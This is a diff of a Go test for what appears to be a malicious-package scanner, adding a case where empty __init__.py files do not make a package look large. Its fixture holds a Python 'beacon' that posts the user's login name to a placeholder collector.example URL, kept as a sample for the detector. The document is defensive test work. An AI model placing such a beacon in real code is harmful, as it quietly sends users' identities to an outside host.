@@ -187,8 +187,8 @@ func TestVendoredWheelIsNotThePackage(t *testing.T) {
 
 // TestPackageSize: a module that reports the user name to a hard-coded
 // URL is malicious in a two-file package, but not inside a library of
-// many modules (at most suspicious there); tests do not make a package
-// large.
+// many modules (at most suspicious there); tests and empty files do not
+// make a package large.
 func TestPackageSize(t *testing.T) {
 	dir := t.TempDir()
 	beacon := "import getpass, requests\n\ndef report():\n    requests.post('https://collector.example/r', data={'u': getpass.getuser()})\n"
@@ -200,16 +200,19 @@ func TestPackageSize(t *testing.T) {
 	}
 	large := []file{{"large-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "large", "1.0")}, {"large-1.0/large/client.py", beacon}}
 	padded := slices.Clone(tiny)
+	hollow := slices.Clone(tiny) // empty __init__.py files only mark directories
 	for i := range 20 {
 		large = append(large, file{fmt.Sprintf("large-1.0/large/m%d.py", i), fmt.Sprintf(module, i, i)})
 		padded = append(padded, file{fmt.Sprintf("tiny-1.0/tests/test_m%d.py", i), fmt.Sprintf(module, i, i)})
+		hollow = append(hollow, file{fmt.Sprintf("tiny-1.0/tiny/sub%d/__init__.py", i), "\n"})
 	}
 	res := Run(context.Background(), []string{
 		writeTarGz(t, dir, "tiny-1.0.tar.gz", tiny),
 		writeTarGz(t, dir, "large-1.0.tar.gz", large),
 		writeTarGz(t, dir, "padded-1.0.tar.gz", padded),
+		writeTarGz(t, dir, "hollow-1.0.tar.gz", hollow),
 	}, Options{})
-	for i, wantMalicious := range []bool{true, false, true} {
+	for i, wantMalicious := range []bool{true, false, true, true} {
 		if r := res[i]; (r.Verdict == finding.Malicious) != wantMalicious {
 			t.Errorf("%s: %s (score %.1f, rules %v), want malicious %v", r.Target, r.Verdict, r.Score, rulesOf(r), wantMalicious)
 		}
